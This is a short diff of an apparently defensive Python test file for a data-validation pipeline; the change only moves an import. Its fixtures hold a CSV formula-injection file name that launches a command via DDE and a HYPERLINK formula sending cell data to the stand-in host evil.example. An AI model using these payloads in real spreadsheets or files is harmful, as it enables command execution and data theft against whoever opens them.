@@ -7,7 +7,7 @@ import csv
 
 from validate_fixtures import SCHOOL_A, register_files, stage
 
-from pipelines.validate import run_validate
+from pipelines.validate.stage import run_validate
 
 FILE = "=cmd|' /C calc'!A0.csv"
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Klikšķiniet")'
